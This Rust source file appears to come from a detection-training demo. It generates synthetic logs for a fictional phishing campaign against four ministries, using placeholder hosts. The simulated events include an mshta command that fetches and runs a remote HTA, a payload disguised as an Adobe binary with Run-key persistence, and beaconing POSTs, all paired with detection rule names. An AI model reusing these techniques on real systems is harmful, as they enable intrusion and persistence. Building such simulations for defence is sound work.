//! The same letter at four ministries within hours: nobody but the centre can see that it is one attack.

use std::net::Ipv4Addr;

use base::ObservableKind::{Address, Domain, Hash};
use watch::judge::Verdict;

use super::{Plot, Stage};
use crate::demo::clock::Moment;
use crate::demo::desk::{Start, sha256};
use crate::demo::site::Site;
use crate::demo::write::{Attachment, Letter, Request};

const RELAY: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 131);
const HOME: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 130);
const HOME_NAME: &str = "tegami-cloud.example";
const IMAGE: &str = "story:campaign";

pub(in crate::demo) static PLOT: Plot = Plot {
    key: "campaign",
    name: ["四府省にまたがる標的型攻撃", "A campaign over four ministries"],
    summary: [
        "同じ添付ファイルを持つメールが、内務文化省、財政計画省、環境資源省、先端技術研究機構に数時間のうちに届く。\
         開封した端末はいずれも同じ外部サーバーに接続する。個々の機関には小さな事象に見えるが、横断的に見れば一つの攻撃である。",
        "Mails with the same attachment reach the Ministries of Home and Cultural Affairs, Fiscal Planning and \
         Environmental Resources and the Advanced Technology Research Organisation within hours, and every desk that opens \
         one connects to the same server. Each sees something small; together it is one attack.",
    ],
    starts: Moment::at(9, 41),
    organisations: &["naibu", "zaisei", "kankyo", "kenkyu"],
    rules: &[
        "mail_with_risky_attachment",
        "zeek_mail_with_risky_attachment",
        "postfix_risky_attachment",
        "mshta_remote_page",
        "run_key_to_user_folder",
    ],
    observables: &[(Address, "192.0.2.130"), (Address, "192.0.2.131"), (Domain, HOME_NAME), (Hash, IMAGE)],
    verdict: Verdict::Threat,
    tell,
};

fn tell(stage: &mut Stage<'_>) {
    let visits = [
        ("naibu", Moment::at(9, 41), [12, 70, 101]),
        ("zaisei", Moment::at(10, 18), [33, 34, 90]),
        ("kankyo", Moment::at(11, 32), [8, 15, 61]),
        ("kenkyu", Moment::at(13, 24), [5, 44, 77]),
    ];
    for (key, at, desks) in visits {
        let mut site = stage.site(key);
        for (number, desk) in desks.into_iter().enumerate() {
            letter(&mut site, at.plus(number as f64 * 2.0), desk);
        }
        open(&mut site, at.plus(660.0), desks[0]);
        // At the second ministry two people open it.
        if key == "zaisei" {
            open(&mut site, at.plus(2_910.0), desks[2]);
        }
    }
}

fn letter(site: &mut Site<'_>, at: Moment, desk: usize) {
    let sha256 = sha256(IMAGE);
    let to = format!("{}@{}", site.place.client(desk).person.user, site.place.domain);
    site.receive(&Letter {
        at,
        from: "jimukyoku@chosa-iinkai.example",
        from_name: "予算調査委員会事務局",
        to: &to,
        subject: "【至急】令和8年度 個別調査資料の確認",
        relay: "mail.chosa-iinkai.example",
        relay_address: RELAY,
        bytes: 1_422_600,
        attachment: Some(Attachment {
            name: "R8_kobetsu_chosa.iso",
            kind: "application/x-iso9660-image",
            sha256: &sha256,
            bytes: 1_048_576,
        }),
    });
}

fn open(site: &mut Site<'_>, at: Moment, desk: usize) {
    let client = site.place.client(desk);
    let user = site.account(&client.person.user);
    let mshta = "C:\\Windows\\System32\\mshta.exe";
    let explorer = "C:\\Windows\\explorer.exe";
    site.start(&Start {
        at,
        host: &client.host,
        user: &user,
        image: mshta,
        command: "\"C:\\Windows\\System32\\mshta.exe\" https://tegami-cloud.example/view/r8.hta",
        parent: explorer,
        parent_command: explorer,
        integrity: "Medium",
    });
    site.lookup(at.plus(0.6), &client.host, &user, mshta, (HOME_NAME, &HOME.to_string()));
    site.resolve(at.plus(0.6), client.address, HOME_NAME, "A", &HOME.to_string());
    site.connect(at.plus(0.7), (&client.host, client.address), &user, mshta, (HOME, 443));
    let agent =
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/8.0; .NET4.0C; .NET4.0E)";
    let request = Request { bytes: 22_408, ..Request::get(at.plus(0.9), HOME_NAME, "/view/r8.hta", agent) };
    site.fetch(client, HOME, "Uncategorized", &request);
    site.fetch_on_the_wire(client, HOME, &request);
    let payload = format!("C:\\Users\\{}\\AppData\\Roaming\\Adobe\\reader_sl.exe", client.person.user);
    site.file(at.plus(4.0), &client.host, &user, mshta, &payload);
    let key = "HKU\\S-1-5-21-4020993649\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\AdobeReaderSL";
    site.set_value(at.plus(5.0), &client.host, &user, mshta, (key, &payload));
    for round in 0..8 {
        let at = at.plus(300.0 + f64::from(round) * 900.0 + site.dice.unit() * 120.0);
        let post = Request {
            method: "POST",
            bytes: 344,
            ..Request::get(at, HOME_NAME, "/api/status", client.agent)
        };
        site.fetch(client, HOME, "Uncategorized", &post);
        site.fetch_on_the_wire(client, HOME, &post);
    }
}
